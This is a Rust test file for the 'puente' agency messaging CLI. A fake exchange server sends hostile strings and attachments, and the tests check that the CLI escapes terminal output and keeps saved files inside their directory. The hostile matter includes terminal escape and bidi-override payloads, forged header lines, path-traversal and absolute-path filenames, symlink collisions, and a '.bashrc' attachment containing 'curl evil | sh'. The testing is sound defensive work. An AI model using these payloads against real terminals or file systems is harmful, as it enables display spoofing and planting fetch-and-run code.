//! The agency CLI facing an exchange that does not keep the rules — another server version, a
//! compromised one, anything with a certificate the CLI trusts: a fake `ExchangeService` in
//! this process answers every call with hostile strings, and the real `puente` binary must
//! neither let them act on the reader's terminal nor write outside the directory it was given.

mod common;

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::pin::Pin;
use std::process::Output;

use common::{agency_spiffe, puente_command, TestPki};
use puente::pb::v1::exchange_service_server::{ExchangeService, ExchangeServiceServer};
use puente::pb::v1::{
    message, AcknowledgeMessageRequest, AcknowledgeMessageResponse, Agency, AgencyStatus,
    Attachment, CorrectMessageRequest, CorrectMessageResponse, DenyConsentRequest,
    DenyConsentResponse, FirearmRecord, FirearmsReport, ForwardHop, ForwardMessageRequest,
    ForwardMessageResponse, GetDeliveryStatusRequest, GetDeliveryStatusResponse, GetMessageRequest,
    GetMessageResponse, GrantConsentRequest, GrantConsentResponse, HandlingCode,
    ListAgenciesRequest, ListAgenciesResponse, ListThreadRequest, ListThreadResponse,
    MatchHitNotice, Message, MessageKind, RecipientStatus, Region, RequestConsentRequest,
    RequestConsentResponse, RetractMessageRequest, RetractMessageResponse, SendMessageRequest,
    SendMessageResponse, StreamInboxRequest, StreamInboxResponse, Topic,
};
use tonic::transport::{Identity, Server, ServerTlsConfig};
use tonic::{Request, Response, Status};

/// Everything a hostile sender or server would slip into a string: clear the screen, set the
/// window title (OSC ... BEL), the one-byte C1 CSI, DEL, bidirectional override and isolate,
/// line and paragraph separators, zero-width space, byte-order mark, and a CR that returns
/// over the line just printed.
const H: &str =
    "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{7f}\u{202e}\u{2067}\u{2028}\u{2029}\u{200b}\u{feff}\r";

/// `s` with every hostile character after it.
fn hostile(s: &str) -> String {
    format!("{s}{H}")
}

/// A line of text that, printed raw, would look like the CLI's own header lines.
const FORGED: &str = "\n  handling: H0 FORGED\nFORGED-ID  from ES-CNP";

/// A message whose every string is hostile.
fn hostile_message() -> Message {
    Message {
        message_id: hostile("01a2b3c4-0000-7000-8000-000000000001"),
        sender: hostile("XX-EVIL"),
        recipients: vec![hostile("ES-CNP"), hostile("CO-DIJIN")],
        topic: Topic::FirearmsTrafficking as i32,
        subject: format!("Invoice{H}{FORGED}"),
        handling: HandlingCode::H3 as i32,
        in_reply_to: hostile("parent"),
        case_reference: hostile("CASE"),
        content: Some(message::Content::Text(format!(
            "Dear colleagues,\n{H}{FORGED}\r  handling: H0 FORGED"
        ))),
        attachments: vec![Attachment {
            filename: hostile("invoice.pdf"),
            media_type: hostile("application/pdf"),
            data: b"%PDF".to_vec(),
        }],
        handling_conditions: format!("Conditions{H}{FORGED}"),
        kind: MessageKind::Forwarded as i32,
        originator: hostile("YY-ORIGIN"),
        original_message_id: hostile("original"),
        provenance: vec![ForwardHop {
            from_agency: hostile("A"),
            to_agency: hostile("B"),
            message_id: hostile("hop"),
            forwarded_at: None,
        }],
        related_message_id: hostile("related"),
        consent_agency: hostile("BE-FPJ"),
        reason: format!("Because{H}{FORGED}"),
        match_hit: Some(MatchHitNotice {
            querying_agency: hostile("MX-FGR"),
            case_reference: hostile("case"),
            legal_basis: hostile("basis"),
            match_reference: hostile("match"),
            your_reference: hostile("yours"),
            ..Default::default()
        }),
        ..Default::default()
    }
}

/// A firearms report whose strings are hostile (structured content is printed as a summary).
fn hostile_report() -> Message {
    Message {
        message_id: "01a2b3c4-0000-7000-8000-000000000002".into(),
        subject: "report".into(),
        content: Some(message::Content::Firearms(FirearmsReport {
            records: vec![FirearmRecord {
                make: hostile("Glock"),
                model: format!("17{FORGED}"),
                serial_number: hostile("SN"),
                ..Default::default()
            }],
        })),
        ..Default::default()
    }
}

/// The attachments of message `save-me`: a traversal, an absolute path outside the directory
/// (`absolute`), the same name twice, the names of two symbolic links the directory already
/// holds (one to an existing file, one dangling), a hidden file, and a name with terminal controls. Each holds its own contents.
fn attachment_message(absolute: &str) -> Message {
    let attachment = |filename: &str, data: &str| Attachment {
        filename: filename.into(),
        media_type: String::new(),
        data: data.as_bytes().to_vec(),
    };
    Message {
        message_id: "01a2b3c4-0000-7000-8000-000000000003".into(),
        subject: "attachments".into(),
        content: Some(message::Content::Text("see attached".into())),
        attachments: vec![
            attachment("../escaped.txt", "traversal"),
            attachment(absolute, "absolute"),
            attachment("report.txt", "first report"),
            attachment("report.txt", "second report"),
            attachment("link.txt", "through the link"),
            attachment("dangling.txt", "through the dangling link"),
            attachment(".bashrc", "curl evil | sh"),
            attachment(&format!("x{H}.txt"), "controls"),
        ],
        ..Default::default()
    }
}

/// The fake exchange: hostile answers to every call a reader makes.
struct Fake {
    /// The absolute path `save-me` names as an attachment.
    absolute: String,
}

type InboxStream =
    Pin<Box<dyn futures::Stream<Item = Result<StreamInboxResponse, Status>> + Send + 'static>>;

#[tonic::async_trait]
impl ExchangeService for Fake {
    async fn send_message(
        &self,
        _: Request<SendMessageRequest>,
    ) -> Result<Response<SendMessageResponse>, Status> {
        Ok(Response::new(SendMessageResponse {
            message_id: hostile("sent"),
            ..Default::default()
        }))
    }

    type StreamInboxStream = InboxStream;

    async fn stream_inbox(
        &self,
        _: Request<StreamInboxRequest>,
    ) -> Result<Response<InboxStream>, Status> {
        let entries = [hostile_message(), hostile_report()]
            .into_iter()
            .enumerate()
            .map(|(i, message)| {
                Ok(StreamInboxResponse {
                    sequence: i as u64 + 1,
                    message: Some(message),
                })
            });
        Ok(Response::new(Box::pin(futures::stream::iter(entries))))
    }

    async fn acknowledge_message(
        &self,
        _: Request<AcknowledgeMessageRequest>,
    ) -> Result<Response<AcknowledgeMessageResponse>, Status> {
        Err(Status::permission_denied(format!("refused{H}{FORGED}")))
    }

    async fn get_message(
        &self,
        request: Request<GetMessageRequest>,
    ) -> Result<Response<GetMessageResponse>, Status> {
        let message = match request.into_inner().message_id.as_str() {
            "save-me" => attachment_message(&self.absolute),
            "report" => hostile_report(),
            _ => hostile_message(),
        };
        Ok(Response::new(GetMessageResponse {
            message: Some(message),
        }))
    }

    async fn get_delivery_status(
        &self,
        _: Request<GetDeliveryStatusRequest>,
    ) -> Result<Response<GetDeliveryStatusResponse>, Status> {
        Ok(Response::new(GetDeliveryStatusResponse {
            recipients: vec![RecipientStatus {
                agency_id: hostile("CO-DIJIN"),
                ..Default::default()
            }],
            ..Default::default()
        }))
    }

    async fn list_agencies(
        &self,
        _: Request<ListAgenciesRequest>,
    ) -> Result<Response<ListAgenciesResponse>, Status> {
        Ok(Response::new(ListAgenciesResponse {
            agencies: vec![Agency {
                agency_id: hostile("ES-CNP"),
                name: format!("Policía{H}{FORGED}"),
                country: hostile("ES"),
                region: Region::Eu as i32,
                status: AgencyStatus::Active as i32,
            }],
        }))
    }

    async fn forward_message(
        &self,
        _: Request<ForwardMessageRequest>,
    ) -> Result<Response<ForwardMessageResponse>, Status> {
        Err(Status::unimplemented("not in this fake"))
    }

    async fn request_consent(
        &self,
        _: Request<RequestConsentRequest>,
    ) -> Result<Response<RequestConsentResponse>, Status> {
        Err(Status::unimplemented("not in this fake"))
    }

    async fn grant_consent(
        &self,
        _: Request<GrantConsentRequest>,
    ) -> Result<Response<GrantConsentResponse>, Status> {
        Err(Status::unimplemented("not in this fake"))
    }

    async fn deny_consent(
        &self,
        _: Request<DenyConsentRequest>,
    ) -> Result<Response<DenyConsentResponse>, Status> {
        Err(Status::unimplemented("not in this fake"))
    }

    async fn retract_message(
        &self,
        _: Request<RetractMessageRequest>,
    ) -> Result<Response<RetractMessageResponse>, Status> {
        Err(Status::unimplemented("not in this fake"))
    }

    async fn correct_message(
        &self,
        _: Request<CorrectMessageRequest>,
    ) -> Result<Response<CorrectMessageResponse>, Status> {
        Err(Status::unimplemented("not in this fake"))
    }

    async fn list_thread(
        &self,
        _: Request<ListThreadRequest>,
    ) -> Result<Response<ListThreadResponse>, Status> {
        Ok(Response::new(ListThreadResponse {
            messages: vec![hostile_message()],
        }))
    }
}

/// The fake exchange on 127.0.0.1:0 with the server certificate of a test PKI (on a thread of
/// its own, as the tests run the CLI synchronously), and an agency's certificate for the CLI
/// in a working directory.
struct FakeExchange {
    addr: SocketAddr,
    dir: tempfile::TempDir,
    shutdown: Option<tokio::sync::oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl FakeExchange {
    fn start(absolute: &Path) -> FakeExchange {
        let pki = TestPki::new();
        let dir = tempfile::tempdir().expect("temporary directory");
        let (cert, key) = pki.issue(&agency_spiffe("ES-CNP"));
        for (name, contents) in [("ca.pem", &pki.ca_pem), ("es.pem", &cert), ("es.key", &key)] {
            std::fs::write(dir.path().join(name), contents).expect("write test file");
        }
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1:0");
        listener
            .set_nonblocking(true)
            .expect("non-blocking listener");
        let addr = listener.local_addr().expect("local address");
        let identity = Identity::from_pem(&pki.server_cert_pem, &pki.server_key_pem);
        let fake = Fake {
            absolute: absolute.to_str().expect("UTF-8 path").to_string(),
        };
        let (shutdown, stop) = tokio::sync::oneshot::channel::<()>();
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .expect("runtime");
            runtime.block_on(async move {
                let listener = tokio::net::TcpListener::from_std(listener).expect("listener");
                Server::builder()
                    .tls_config(ServerTlsConfig::new().identity(identity))
                    .expect("TLS configuration")
                    .add_service(ExchangeServiceServer::new(fake))
                    .serve_with_incoming_shutdown(
                        tokio_stream::wrappers::TcpListenerStream::new(listener),
                        async {
                            let _ = stop.await;
                        },
                    )
                    .await
                    .expect("fake exchange");
            });
        });
        FakeExchange {
            addr,
            dir,
            shutdown: Some(shutdown),
            thread: Some(thread),
        }
    }

    /// Runs `puente ARGS` as ES-CNP against the fake.
    fn run(&self, args: &[&str]) -> Output {
        puente_command(self.dir.path(), args)
            .args(["--addr", &self.addr.to_string()])
            .args(["--cert", "es.pem", "--key", "es.key", "--ca", "ca.pem"])
            .output()
            .expect("run puente")
    }
}

impl Drop for FakeExchange {
    fn drop(&mut self) {
        if let Some(shutdown) = self.shutdown.take() {
            let _ = shutdown.send(());
        }
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// Asserts that `output` holds nothing a terminal would act on or that would reorder or hide
/// text: no C0 control but tab and line feed, no DEL or C1 control, no bidirectional control,
/// no line or paragraph separator, no zero-width character or byte-order mark — and that no
/// line of it starts like a header line forged by the sender.
#[track_caller]
fn assert_inert(what: &str, output: &[u8]) {
    let output = String::from_utf8_lossy(output);
    for (at, c) in output.char_indices() {
        let bad = matches!(c,
            '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
            | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}'
            | '\u{200b}'..='\u{200f}' | '\u{feff}');
        assert!(
            !bad,
            "{what}: U+{:04X} at byte {at} of:\n{}",
            u32::from(c),
            output.escape_debug()
        );
    }
    for line in output.lines() {
        assert!(
            !line.trim_start().starts_with("handling: H0 FORGED") && !line.starts_with("FORGED"),
            "{what}: a forged header line: {line:?}"
        );
    }
}

/// `inbox`, `get`, `status`, `agencies`, `thread` and `export --stix`, as text and as JSON,
/// and an error the exchange answers: nothing the fake sends reaches the terminal raw.
#[test]
fn every_command_escapes_what_a_hostile_exchange_sends() {
    let outside = tempfile::tempdir().expect("temporary directory");
    let exchange = FakeExchange::start(&outside.path().join("absolute.txt"));
    let message = "01a2b3c4-0000-7000-8000-000000000001";
    let commands: [&[&str]; 10] = [
        &["inbox"],
        &["inbox", "--json"],
        &["get", message],
        &["get", "report"],
        &["get", message, "--json"],
        &["status", message],
        &["agencies"],
        &["thread", message],
        &["export", message, "--stix"],
        &["ack", message],
    ];
    for args in commands {
        let output = exchange.run(args);
        let what = args.join(" ");
        // Only `ack` is refused (by the fake), and its error is printed on stderr.
        assert_eq!(
            output.status.success(),
            args[0] != "ack",
            "{what}: {output:?}"
        );
        assert_inert(&format!("puente {what} (stdout)"), &output.stdout);
        assert_inert(&format!("puente {what} (stderr)"), &output.stderr);
    }
    // The escaped text is still there to read, each hostile character visible.
    let printed = String::from_utf8(exchange.run(&["get", message]).stdout).expect("UTF-8");
    assert!(
        printed.contains("from XX-EVIL\\x1b[2J\\x1b]0;pwned\\x07\\u{9b}31m"),
        "{printed}"
    );
    assert!(
        printed.contains("\\u{202e}\\u{2067}\\u{2028}\\u{2029}\\u{200b}\\u{feff}\\r"),
        "{printed}"
    );
}

/// The names of the files in `dir`, with their contents (or the target of a symbolic link).
fn listing(dir: &Path) -> BTreeMap<String, String> {
    std::fs::read_dir(dir)
        .expect("read directory")
        .map(|entry| {
            let entry = entry.expect("directory entry");
            let path = entry.path();
            let name = entry.file_name().into_string().expect("UTF-8 name");
            let metadata = std::fs::symlink_metadata(&path).expect("metadata");
            let contents = if metadata.file_type().is_symlink() {
                format!("-> {}", std::fs::read_link(&path).expect("link").display())
            } else {
                std::fs::read_to_string(&path).expect("read saved file")
            };
            (name, contents)
        })
        .collect()
}

/// `get --save-attachments DIR` writes every attachment inside DIR under a safe name of its own:
/// no traversal, no absolute path, no hidden file, no second `report.txt` over the first, no
/// write through a symbolic link already in DIR (its target outside is untouched, a dangling
/// link's target is not created) — and says what it renamed.
#[test]
fn saved_attachments_stay_in_their_directory_and_replace_nothing() {
    let outside = tempfile::tempdir().expect("temporary directory");
    let absolute: PathBuf = outside.path().join("absolute.txt");
    let exchange = FakeExchange::start(&absolute);
    let saved = exchange.dir.path().join("saved");
    std::fs::create_dir(&saved).expect("create DIR");
    let target = outside.path().join("target.txt");
    std::fs::write(&target, "precious").expect("write target");
    std::os::unix::fs::symlink(&target, saved.join("link.txt")).expect("symlink");
    let nowhere = outside.path().join("created-through-link.txt");
    std::os::unix::fs::symlink(&nowhere, saved.join("dangling.txt")).expect("symlink");

    let output = exchange.run(&["get", "save-me", "--save-attachments", "saved"]);
    assert!(output.status.success(), "{output:?}");

    assert!(
        !exchange.dir.path().join("escaped.txt").exists(),
        "the traversal escaped DIR"
    );
    assert!(!absolute.exists(), "the absolute path was written");
    assert_eq!(
        std::fs::read_to_string(&target).expect("read target"),
        "precious",
        "the symbolic link was followed"
    );
    assert!(!nowhere.exists(), "the dangling symbolic link was followed");
    let absolute_name = absolute.to_str().expect("UTF-8").replace('/', "_");
    let want: BTreeMap<String, String> = [
        ("___escaped.txt", "traversal"),
        (absolute_name.as_str(), "absolute"),
        ("report.txt", "first report"),
        ("report (2).txt", "second report"),
        ("link.txt", &format!("-> {}", target.display())),
        ("link (2).txt", "through the link"),
        ("dangling.txt", &format!("-> {}", nowhere.display())),
        ("dangling (2).txt", "through the dangling link"),
        ("_bashrc", "curl evil | sh"),
        ("x_[2J_]0;pwned__31m________.txt", "controls"),
    ]
    .into_iter()
    .map(|(name, contents)| (name.to_string(), contents.to_string()))
    .collect();
    assert_eq!(listing(&saved), want);

    let printed = String::from_utf8(output.stdout.clone()).expect("UTF-8");
    for note in [
        "saved saved/___escaped.txt (sent as \"../escaped.txt\")",
        "saved saved/report (2).txt (sent as \"report.txt\")",
        "saved saved/link (2).txt (sent as \"link.txt\")",
        "saved saved/_bashrc (sent as \".bashrc\")",
        "saved saved/report.txt\n",
    ] {
        assert!(printed.contains(note), "no {note:?} in:\n{printed}");
    }
    assert_inert("get --save-attachments", &output.stdout);
}
